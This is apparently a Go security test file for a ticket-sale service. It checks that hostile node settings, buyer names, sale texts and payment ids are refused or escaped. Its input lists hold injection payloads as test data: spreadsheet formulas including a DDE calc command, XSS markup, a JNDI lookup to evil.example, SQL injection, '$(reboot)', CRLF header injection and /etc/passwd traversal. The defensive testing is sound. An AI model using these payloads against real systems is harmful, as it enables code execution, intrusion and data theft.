package hostile_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	appledger "onsale/internal/app/ledger"
	"onsale/internal/ledger/postgres"
	"onsale/internal/operate"
	"onsale/internal/operate/report"
	"onsale/internal/output"
	"onsale/internal/sale"
	"onsale/internal/testbed/await"
	"onsale/internal/testbed/process"
)

// intruder is a program that some tests start beside the site's own.
const intruder = "intruder"

// refused starts one more node with settings that are its own, and returns the end of its log once it has ended by itself.
func (s *site) refused(t *testing.T, settings ...string) string {
	t.Helper()
	for _, flag := range []string{"--admin", "--listen", "--gossip-bind"} {
		port, err := process.FreePort()
		if err != nil {
			t.Fatal(err)
		}
		settings = append([]string{flag, process.Loopback(port)}, settings...)
	}
	m := *s.Nodes[1]
	m.Name = intruder
	if err := m.StartWith(settings...); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if m.Running() {
			_ = m.Kill()
		}
	})
	await.Until(t, fmt.Sprintf("a node with %q ends", settings), func() bool { return !m.Running() })
	return m.Tail()
}

// Attack: a node whose name or address would be a directive of Nginx, another key of Redis, or a line of the log. It does not start.
func TestNoNodeIsNamedAfterADirective(t *testing.T) {
	target.open(t, 1)
	end := target.watch(t)
	defer end()
	for _, settings := range [][]string{
		{"--name", "x; } server { listen 6666; }"},
		{"--name", "x\nserver 127.0.0.1:6666;"},
		{"--name", "x}:stock"},
		{"--name", `x",y="z`},
		{"--name", "\x1b[2J"},
		{"--name", strings.Repeat("x", 65)},
		{"--name", intruder, "--advertise", "127.0.0.1:80 weight=1000000; include /etc/passwd"},
		{"--name", intruder, "--advertise", "evil.example:80"},
		{"--name", intruder, "--advertise", "127.0.0.1:80\nserver 127.0.0.1:6666"},
		{"--name", intruder, "--advertise", "unix:/tmp/evil"},
		{"--name", intruder, "--advertise", "[::1%25lo]:80"},
		{"--name", intruder, "--advertise", "169.254.169.254:80"},
		{"--name", intruder, "--weight", "1000000000"},
	} {
		if log := target.refused(t, settings...); strings.ContainsAny(log, "\x1b\x00") || strings.Contains(log, "node is up") {
			t.Errorf("%q: got %q, want the node refused, and its name quoted", settings, log)
		}
	}
}

// called are buyers whose names some reader could take for more than a name.
var called = []string{
	`=HYPERLINK("http://evil.example","x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "'quoted", `a","b`, "<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "{{.}}", "${jndi:ldap://evil.example/a}",
	`"} 1 onsale_evil{x="`, "'; DROP TABLE orders; --", "$(reboot)", "`reboot`", "%0d%0aSet-Cookie: x", "../../etc/passwd", "{honest}:stock", "\u202egnp.exe", "\u009b2J", "\u2028x", "ﬀ", "null", "0", strings.Repeat("é", 64),
}

// Attack: buyers' names that are formulas, markup, labels of metrics, queries, paths or terminal sequences. Every reader of them takes them
// for names: buyers' and operators' JSON, metrics, logs, PostgreSQL, the export and the report.
func TestABuyersNameIsNothingButAName(t *testing.T) {
	id := target.open(t, 1000)
	for i, name := range called {
		d := target.doors()[i%2]
		a := ask(t, d.addr, target.purchase(t, id, name))
		if a.status != http.StatusCreated {
			t.Fatalf("%s: %q got %v, want an order", d.name, name, a)
		}
		if mine := ask(t, target.doors()[1-i%2].addr, request("GET", "/v1/sales/"+id+"/orders/mine", "", target.bearer(t, name))); mine.order != a.order {
			t.Errorf("%q got %v, want the order %s", name, mine, a.order)
		}
		shown := askAdmin(t, target.Allocators[0].Admin, request("GET", "/admin/v1/sales/"+id+"/orders/"+a.order, "", "Authorization: Bearer "+target.AdminToken))
		var order struct{ Buyer string }
		if err := json.Unmarshal([]byte(shown.body), &order); err != nil || order.Buyer != name || !strings.HasPrefix(shown.header.Get("Content-Type"), "application/json") {
			t.Errorf("operators got %q, %v, want the buyer %q as JSON", shown.body, err, name)
		}
	}
	rows := target.recorded(t, id, len(called))
	var got []string
	for _, r := range rows {
		got = append(got, string(r.Buyer))
	}
	slices.Sort(got)
	if want := slices.Sorted(slices.Values(called)); !slices.Equal(got, want) {
		t.Errorf("the ledger has %q, want %q", got, want)
	}
	var file bytes.Buffer
	for _, r := range rows {
		if err := output.WriteCSV(&file, string(r.ID), string(r.Buyer)); err != nil {
			t.Fatal(err)
		}
	}
	cells, err := csv.NewReader(&file).ReadAll()
	if err != nil || len(cells) != len(called) {
		t.Fatalf("got %d records, %v, want %d", len(cells), err, len(called))
	}
	for _, c := range cells {
		if strings.ContainsAny(c[1][:1], "=+-@\t\r") {
			t.Errorf("got the cell %q, which a spreadsheet takes for a formula", c[1])
		}
	}
	target.wantNowhere(t, "evil", "alert(1)", "DROP TABLE", "\u202e", "\u009b")
}

// recorded are the orders that the ledger has, once it has so many.
func (s *site) recorded(t *testing.T, id string, want int) (rows []postgres.OrderRow) {
	t.Helper()
	at := appledger.DatabaseFlags{URL: s.Postgres.URL()}
	await.Until(t, "the ledger has all orders", func() bool {
		rows = nil
		err := operate.EachOrder(s.ctx, at, sale.ID(id), func(r postgres.OrderRow) error {
			rows = append(rows, r)
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		return len(rows) >= want
	})
	return rows
}

// wantNowhere checks that no metric and no line of a log has one of the texts.
func (s *site) wantNowhere(t *testing.T, texts ...string) {
	t.Helper()
	for _, d := range s.admins() {
		_, body, err := process.Fetch("http://" + d.addr + "/metrics")
		if err != nil {
			t.Fatal(err)
		}
		for _, text := range texts {
			if bytes.Contains(body, []byte(text)) {
				t.Errorf("the metrics of the %s have %q", d.name, text)
			}
		}
	}
	for name, log := range s.logs(t) {
		if filepath.Base(name) == intruder+".log" { // it quotes what it refuses
			continue
		}
		for _, text := range texts {
			if bytes.Contains(log, []byte(text)) {
				t.Errorf("%s has %q", name, text)
			}
		}
	}
}

// logs are those of all programs and servers.
func (s *site) logs(t *testing.T) map[string][]byte {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(s.Dir, "*.log"))
	if err != nil || len(files) < 6 {
		t.Fatalf("got the logs %v, %v, want those of all programs", files, err)
	}
	all := map[string][]byte{}
	for _, f := range files {
		if all[f], err = os.ReadFile(f); err != nil {
			t.Fatal(err)
		}
	}
	return all
}

// Attack, by whoever writes a sale's texts: markup, templates and control characters in title, subtitle and rules. Buyers get them as JSON, and
// the report shows them as text.
func TestASalesTextsAreNothingButTexts(t *testing.T) {
	target.open(t, 1)
	const id = "texts"
	texts := []string{"</title><script>alert(1)</script>", `"><img src=x onerror=alert(1)>{{.}}`, "=1+1\r\nSet-Cookie: evil=1\u0000\u009b2J</script>"}
	definition, err := json.Marshal(map[string]any{"id": id, "title": texts[0], "subtitle": texts[1], "rules": texts[2], "currency": "EUR", "price": 1, "total": 10, "closes_at": time.Now().Add(time.Hour)})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := target.AdminCall(target.ctx, http.MethodPost, "/admin/v1/sales", definition); err != nil {
		t.Fatal(err)
	}
	if err := target.AwaitSale(target.ctx, id); err != nil {
		t.Fatal(err)
	}
	if a := ask(t, target.doors()[0].addr, target.purchase(t, id, "ann")); a.status != http.StatusCreated {
		t.Fatalf("got %v, want an order", a)
	}
	for _, d := range target.doors() {
		a := ask(t, d.addr, request("GET", "/v1/sales/"+id, "", "Accept: text/html"))
		var shown struct{ Title, Subtitle, Rules string }
		if err := json.Unmarshal([]byte(a.body), &shown); err != nil || shown.Title != texts[0] || shown.Subtitle != texts[1] || shown.Rules != texts[2] {
			t.Errorf("%s: got %q, %v, want the texts as they were", d.name, a.body, err)
		}
		if strings.Contains(a.body, "<") || !strings.HasPrefix(a.header.Get("Content-Type"), "application/json") || a.header.Get("Set-Cookie") != "" {
			t.Errorf("%s: got %v %q, want JSON without markup", d.name, a.header, a.body)
		}
	}
	target.recorded(t, id, 1)
	h, err := operate.History(target.ctx, appledger.DatabaseFlags{URL: target.Postgres.URL()}, id)
	if err != nil {
		t.Fatal(err)
	}
	var page bytes.Buffer
	if err := (&report.Report{History: h}).WriteHTML(&page); err != nil {
		t.Fatal(err)
	}
	for _, text := range []string{"<script>alert", "<img src=x", "</title><script"} {
		if strings.Contains(page.String(), text) {
			t.Errorf("the report has %s", text)
		}
	}
	if !strings.Contains(page.String(), "&lt;script&gt;alert(1)") {
		t.Error("got a report without the title, want it as text")
	}
	target.wantNowhere(t, "evil", "alert(1)")
}

// Attack: a payment's id, which the provider chooses, as a formula or markup.
func TestAPaymentsIDIsNothingButAnID(t *testing.T) {
	id := target.open(t, 1000)
	front := target.doors()[0].addr
	for i, name := range []string{"=1+1", "<script>alert(1)</script>", `"};evil{`, "../../etc/passwd", "'--"} {
		order := ask(t, front, target.purchase(t, id, fmt.Sprint("payer-", i))).order
		quoted, err := json.Marshal(name)
		if err != nil {
			t.Fatal(err)
		}
		body := strings.Replace(about("succeeded", id, order, "", 4200), `"pay-`+order+`"`, string(quoted), 1)
		a := ask(t, front, signed(target.Payments, fmt.Sprint("msg-odd-", i), body, time.Now()).text())
		var receipt struct{ Payment string }
		if err := json.Unmarshal([]byte(a.body), &receipt); err != nil || a.status != http.StatusOK || receipt.Payment != name {
			t.Errorf("%q: got %v %s, %v, want it paid", name, a, a.body, err)
		}
	}
	target.wantNowhere(t, "evil", "alert(1)")
}
